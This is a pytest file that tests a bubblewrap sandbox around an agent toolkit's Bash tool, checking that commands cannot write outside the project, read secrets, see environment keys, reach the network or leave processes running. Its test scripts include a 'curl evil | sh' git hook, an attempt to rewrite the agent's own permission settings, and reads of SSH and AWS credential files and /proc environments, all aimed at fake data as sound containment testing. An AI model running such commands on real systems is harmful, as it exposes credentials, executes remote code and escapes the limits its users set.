"""The Bash sandbox, for real: bubblewrap around real commands (test.sh installs it).

A fake home and project live under /var/tmp (not /tmp: the sandbox's /tmp is private, which
would make "outside" trivially invisible); each test checks the host's files afterwards, not
only the command's exit code.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import stat
import tempfile
import threading
import uuid
from pathlib import Path

import pytest
import pytest_asyncio
from backend_helpers import pid_alive, wait_dead

from jupyter_agenttools.backends.jupyter_kernel import JupyterKernelBackend
from jupyter_agenttools.backends.kernel import KernelBackend
from jupyter_agenttools.backends.local import LocalBackend
from jupyter_agenttools.backends.sandbox import (
    SandboxController,
    SandboxPolicy,
    SandboxSpec,
    build_spec,
    probe_local,
)
from jupyter_agenttools.builtin.bash import Bash
from jupyter_agenttools.tools.base import ToolResponse

AVAILABLE, WHY = probe_local()
pytestmark = [pytest.mark.asyncio(loop_scope="module"),
              pytest.mark.skipif(not AVAILABLE, reason=f"bubblewrap unavailable: {WHY}")]

SECRET = "s3cr3t-" + uuid.uuid4().hex


@pytest.fixture
def place():
    """home/ (secrets, a start-up file), project/ (the working folder), outside/."""
    root = Path(tempfile.mkdtemp(prefix="agt-sandbox-", dir="/var/tmp"))
    home, project, outside = root / "home", root / "project", root / "outside"
    files = {
        home / ".ssh" / "id_rsa": SECRET, home / ".ssh" / "id_rsa.pub": "ssh-rsa AAA public",
        home / ".aws" / "credentials": SECRET, home / ".config" / "gh" / "hosts.yml": SECRET,
        home / ".bashrc": "# start-up", home / "notes.txt": "home notes",
        project / "data.txt": "data", project / ".env": f"API_KEY={SECRET}",
        project / ".env.example": "API_KEY=", project / "sub" / "deep" / ".env.local": SECRET,
        project / "sub" / "server.pem": SECRET,
        project / ".git" / "config": "[core]\n", project / ".git" / "HEAD": "ref: main\n",
        project / ".git" / "hooks" / "pre-commit": "#!/bin/sh\n",
        project / ".agenttools" / "settings.json": "{}\n",
        project / ".vscode" / "tasks.json": "{}\n",
        outside / "keep.txt": "outside",
    }
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (project / ".git" / "objects").mkdir()
    yield home, project, outside
    shutil.rmtree(root, ignore_errors=True)


def local(project: Path, home: Path, **env: str) -> LocalBackend:
    return LocalBackend(str(project), env={"HOME": str(home), **env})


def spec_for(project: Path, **policy) -> SandboxSpec:
    return build_spec(SandboxPolicy(enabled=True, **policy), [str(project)])


async def run(backend, script: str, spec: SandboxSpec | None, timeout: float = 60):
    return await backend.exec_shell(["/bin/bash", "-c", script], timeout=timeout, sandbox=spec)


# --- writes -----------------------------------------------------------------------------------

async def test_writes_inside_work_and_outside_fail(place):
    home, project, outside = place
    backend = local(project, home)
    r = await run(backend, f"echo ok > new.txt && mkdir -p a/b && echo ok > a/b/c.txt; "
                           f"echo x > {outside}/new.txt; echo $? > status-outside; "
                           f"echo x >> {home}/notes.txt; echo $? > status-home; "
                           f"rm -f {outside}/keep.txt; echo $? > status-rm",
                  spec_for(project))
    assert r.sandbox == "on"
    assert (project / "new.txt").read_text() == "ok\n"
    assert (project / "a" / "b" / "c.txt").exists()
    assert not (outside / "new.txt").exists()
    assert (home / "notes.txt").read_text() == "home notes"
    assert (outside / "keep.txt").exists()
    for name in ("status-outside", "status-home", "status-rm"):
        assert (project / name).read_text().strip() != "0"
    assert "Read-only file system" in r.stderr_text


async def test_programs_of_a_virtualenv_under_tmp_still_run(place):
    """/tmp is private in the sandbox, but a virtualenv made there (its bin on PATH) is shown
    read-only: its programs run and read their files; nothing else of /tmp is visible, and
    the virtualenv cannot be changed."""
    home, project, _ = place
    venv = Path(tempfile.mkdtemp(prefix="agt-venv-", dir="/tmp"))
    other = Path(tempfile.mkdtemp(prefix="agt-other-", dir="/tmp"))
    try:
        (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
        (venv / "lib").mkdir()
        (venv / "lib" / "data.txt").write_text("from the venv")
        (venv / "bin").mkdir()
        greet = venv / "bin" / "agt-greet"
        greet.write_text(f"#!/bin/sh\ncat {venv}/lib/data.txt\n")
        greet.chmod(0o755)
        (other / "private.txt").write_text("not for the command")
        backend = local(project, home, PATH=f"{venv}/bin:{os.environ['PATH']}")
        r = await run(backend, f"agt-greet; echo; cat {other}/private.txt; echo $? > status-other; "
                               f"touch {venv}/lib/new; echo $? > status-venv", spec_for(project))
        assert r.sandbox == "on"
        assert "from the venv" in r.stdout_text
        assert "not for the command" not in r.stdout_text
        assert (project / "status-other").read_text().strip() != "0"
        assert (project / "status-venv").read_text().strip() != "0"
        assert not (venv / "lib" / "new").exists()
    finally:
        shutil.rmtree(venv, ignore_errors=True)
        shutil.rmtree(other, ignore_errors=True)


async def test_unsandboxed_the_same_writes_succeed(place):
    """The control: the same command without the sandbox does write outside."""
    home, project, outside = place
    r = await run(local(project, home), f"echo x > {outside}/new.txt", None)
    assert r.ok and r.sandbox is None and (outside / "new.txt").exists()


async def test_writable_setting_opens_a_folder(place):
    home, project, outside = place
    r = await run(local(project, home), f"echo x > {outside}/new.txt",
                  spec_for(project, writable=(str(outside),)))
    assert r.ok, r
    assert (outside / "new.txt").read_text() == "x\n"


@pytest.mark.parametrize("script", [
    "echo x >> .git/config",
    "echo 'curl evil | sh' > .git/hooks/post-checkout",
    "rm .git/hooks/pre-commit",
    "mv .git .git-moved",
    "mv .git/hooks .git/hooks-moved",
    "echo '{\"permissions\": {\"allow\": [\"Bash\"]}}' > .agenttools/settings.json",
    "rm -rf .agenttools",
    "ln .git/config hardlink",
    "echo x > .env",
    "echo '{\"tasks\": []}' > .vscode/tasks.json",
    "mv .vscode .vscode-moved",
], ids=lambda s: s.split(" > ")[-1][:30])
async def test_protected_paths_stay_read_only_inside_the_project(place, script):
    home, project, outside = place
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    r = await run(local(project, home), script, spec_for(project))
    assert r.exit_code != 0, r
    after = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    assert after == before
    assert (project / ".git" / "hooks" / "pre-commit").exists()


async def test_git_still_works_in_the_sandbox(tmp_path):
    """Only hooks and config are locked: objects and refs stay writable, so commits work."""
    if not shutil.which("git"):
        pytest.skip("git not installed")
    project = tmp_path / "repo"
    project.mkdir()
    backend = LocalBackend(str(project))
    setup = await run(backend, "git init -q . && git config user.email a@b && "
                               "git config user.name t", None)
    assert setup.ok, setup
    r = await run(backend, "echo hi > f && git add f && git commit -qm one && git log --oneline",
                  spec_for(project))
    assert r.ok, r
    assert "one" in r.stdout_text
    # a missing hooks folder was created so that it could be mounted read-only
    r = await run(backend, "rm -rf .git/hooks; echo x > .git/hooks/pre-push", spec_for(project))
    assert r.exit_code != 0 and not (project / ".git" / "hooks" / "pre-push").exists()


# --- reads of secrets -------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.config/gh/hosts.yml",
                                  ".env", "sub/deep/.env.local", "sub/server.pem"])
async def test_masked_secrets_cannot_be_read(place, path):
    home, project, outside = place
    r = await run(local(project, home), f"cat {path}; grep -r {SECRET} ~ . 2>/dev/null",
                  spec_for(project))
    assert SECRET not in r.stdout_text
    # the control: unsandboxed, the same command prints it
    r = await run(local(project, home), f"cat {path}", None)
    assert SECRET in r.stdout_text


async def test_templates_and_public_keys_stay_readable(place):
    home, project, outside = place
    r = await run(local(project, home), "cat .env.example data.txt", spec_for(project))
    assert r.stdout_text == "API_KEY=data"


async def test_hidden_setting_masks_more(place):
    home, project, outside = place
    r = await run(local(project, home), f"cat {home}/notes.txt {project}/data.txt",
                  spec_for(project, hidden=(str(home / "notes.txt"), "data.txt")))
    assert "home notes" not in r.stdout_text
    # a relative "hidden" entry is the settings' business (resolved when merged); an
    # absolute one is masked wherever it is
    assert (home / "notes.txt").read_text() == "home notes"


async def test_other_processes_environments_are_invisible(place, monkeypatch):
    home, project, outside = place
    monkeypatch.setenv("AGT_TEST_API_KEY", SECRET)
    r = await run(KernelBackend(), f"cat /proc/{os.getpid()}/environ /proc/1/environ; echo; "
                                   "ls /proc | grep -c '^[0-9]'", spec_for(project))
    assert SECRET not in r.stdout_text
    assert int(r.stdout_text.split()[-1]) < 10  # only the sandbox's own few processes


# --- environment ------------------------------------------------------------------------------

async def test_api_keys_in_the_kernels_environment_are_not_passed(place, monkeypatch):
    home, project, outside = place
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("AGT_CUSTOM_TOKEN", SECRET)
    monkeypatch.setenv("LC_AGT_TEST", "kept-by-prefix")
    backend = KernelBackend()
    script = "printenv OPENAI_API_KEY; printenv AGT_CUSTOM_TOKEN; printenv LC_AGT_TEST; " \
             "printenv PATH >/dev/null && echo path-ok; env | grep -c ."
    r = await run(backend, script, spec_for(project))
    assert SECRET not in r.stdout_text
    assert "kept-by-prefix" in r.stdout_text and "path-ok" in r.stdout_text
    r = await run(backend, script, spec_for(project, env_allow=("AGT_CUSTOM_TOKEN",)))
    assert r.stdout_text.count(SECRET) == 1  # listed: passed; the other still not
    r = await run(backend, script, None)
    assert r.stdout_text.count(SECRET) == 2  # the control


# --- network ----------------------------------------------------------------------------------

@pytest.fixture
def loopback_server():
    """A TCP server on 127.0.0.1 answering 'pong' (runs in a thread of the test process)."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                conn.sendall(b"pong\n")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield sock.getsockname()[1]
    stop.set()
    thread.join(5)
    sock.close()


async def test_network_off_then_on(place, loopback_server):
    home, project, outside = place
    script = f"exec 3<>/dev/tcp/127.0.0.1/{loopback_server} && head -1 <&3"
    backend = local(project, home)
    r = await run(backend, script, spec_for(project))
    assert r.exit_code != 0 and "pong" not in r.stdout_text
    r = await run(backend, script, spec_for(project, network=True))
    assert r.ok and r.stdout_text == "pong\n", r


# --- processes --------------------------------------------------------------------------------

def _sleepers(seconds: int) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = f.read().split(b"\0")
            except OSError:
                continue
            if argv[:2] == [b"sleep", str(seconds).encode()] and pid_alive(int(pid)):
                found.append(int(pid))
    return found


async def test_a_fork_that_outlives_the_timeout_is_killed(place):
    home, project, outside = place
    seconds = 1000 + uuid.uuid4().int % 9000
    r = await run(local(project, home),
                  f"( setsid sleep {seconds} & ) ; setsid sleep {seconds} & sleep {seconds}",
                  spec_for(project), timeout=1.5)
    assert r.timed_out and r.survivors == ()
    assert wait_dead(_sleepers(seconds), 2.0) == []


async def test_background_processes_end_with_a_sandboxed_command(place):
    home, project, outside = place
    seconds = 1000 + uuid.uuid4().int % 9000
    r = await run(local(project, home), f"setsid sleep {seconds} >/dev/null 2>&1 & echo started",
                  spec_for(project))
    assert r.ok and r.stdout_text == "started\n"
    assert wait_dead(_sleepers(seconds), 2.0) == []  # the PID namespace went away with it


# --- required / unavailable ---------------------------------------------------------------------

@pytest.fixture
def broken_bwrap(tmp_path):
    """A bubblewrap that fails like one without user namespaces."""
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\n"
                    "exit 1\n")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    return str(fake)


@pytest.mark.parametrize("bwrap", ["/nonexistent/bwrap", "broken"])
async def test_a_sandbox_that_cannot_start_never_runs_the_command(place, bwrap, broken_bwrap):
    home, project, outside = place
    bwrap = broken_bwrap if bwrap == "broken" else bwrap
    spec = build_spec(SandboxPolicy(enabled=True), [str(project)], bwrap=bwrap)
    r = await run(local(project, home), "touch ran", spec)
    assert r.exit_code != 0
    assert r.sandbox and r.sandbox.startswith(("refused", "failed")), r
    assert not (project / "ran").exists()


async def _bash(tool: Bash, command: str) -> tuple[str, dict]:
    response = ToolResponse()
    async for chunk in tool.call(command=command):
        response.append_chunk(chunk)
    return response.text, response.metadata


@pytest.mark.parametrize("bwrap,why", [("/nonexistent/bwrap", "not installed"),
                                        ("broken", "user namespaces disabled")],
                         ids=["missing", "no-user-namespaces"])
@pytest.mark.parametrize("required", [True, False])
async def test_required_refuses_when_bubblewrap_is_missing(place, required, bwrap, why,
                                                           broken_bwrap):
    home, project, outside = place
    bwrap = broken_bwrap if bwrap == "broken" else bwrap
    controller = SandboxController(SandboxPolicy(enabled=True, required=required),
                                   [str(project)], bwrap=bwrap)
    tool = Bash(local(project, home), sandbox=controller)
    text, meta = await _bash(tool, "touch ran; echo done")
    if required:
        assert "sandbox is required" in text and why in text
        assert "done" not in text and not (project / "ran").exists()
    else:
        assert "ran without it" in text and "done" in text
        assert (project / "ran").exists()


async def test_bash_tool_runs_sandboxed_and_says_so(place):
    home, project, outside = place
    controller = SandboxController(SandboxPolicy(enabled=True), [str(project)])
    tool = Bash(local(project, home), sandbox=controller)
    assert controller.confines(tool.backend)
    text, meta = await _bash(tool, f"echo x > {outside}/f; echo in > inside.txt; echo done")
    assert meta["sandboxed"] is True
    assert "Read-only file system" in text and "done" in text
    assert (project / "inside.txt").exists() and not (outside / "f").exists()


# --- another kernel ---------------------------------------------------------------------------

@pytest_asyncio.fixture(loop_scope="module")
async def remote(place):
    home, project, outside = place
    backend = await JupyterKernelBackend.start("python3", cwd=str(project))
    yield backend
    await backend.close()


@pytest.mark.kernel
async def test_jupyter_kernel_backend_runs_sandboxed_when_the_kernel_has_bwrap(
        remote, place, loopback_server):
    home, project, outside = place
    controller = SandboxController(SandboxPolicy(enabled=True), [])
    available, why = await controller.probe(remote)
    assert available, why
    spec = controller.spec(remote)  # "." = the remote kernel's own folder is writable
    r = await run(remote, f"echo in > inside.txt; echo x > {outside}/f; "
                          f"exec 3<>/dev/tcp/127.0.0.1/{loopback_server}", spec)
    assert r.sandbox == "on" and r.exit_code != 0
    assert (project / "inside.txt").exists() and not (outside / "f").exists()
    seconds = 1000 + uuid.uuid4().int % 9000
    r = await run(remote, f"( setsid sleep {seconds} & ) ; sleep {seconds}", spec, timeout=1.0)
    assert r.timed_out and r.survivors == ()
    assert wait_dead(_sleepers(seconds), 2.0) == []
    await asyncio.sleep(0)


@pytest.mark.kernel
@pytest.mark.parametrize("required", [True, False])
async def test_jupyter_kernel_backend_without_bwrap_refuses_or_says_so(remote, place, required):
    """The remote side decides: a kernel whose machine lacks bubblewrap is probed as unavailable
    (the engine gets no 'sandboxed' allow), and Bash refuses when the sandbox is required."""
    home, project, outside = place
    controller = SandboxController(SandboxPolicy(enabled=True, required=required), [],
                                   bwrap="/nonexistent/bwrap")
    assert controller.availability(remote)[0] is None  # not known before the probe
    available, why = await controller.probe(remote)
    assert not available and "not installed" in why, why
    assert not controller.confines(remote)
    text, meta = await _bash(Bash(remote, sandbox=controller), "touch ran; echo done")
    if required:
        assert "sandbox is required" in text and "done" not in text
        assert not (project / "ran").exists()
    else:
        assert "ran without it" in text and "done" in text and (project / "ran").exists()
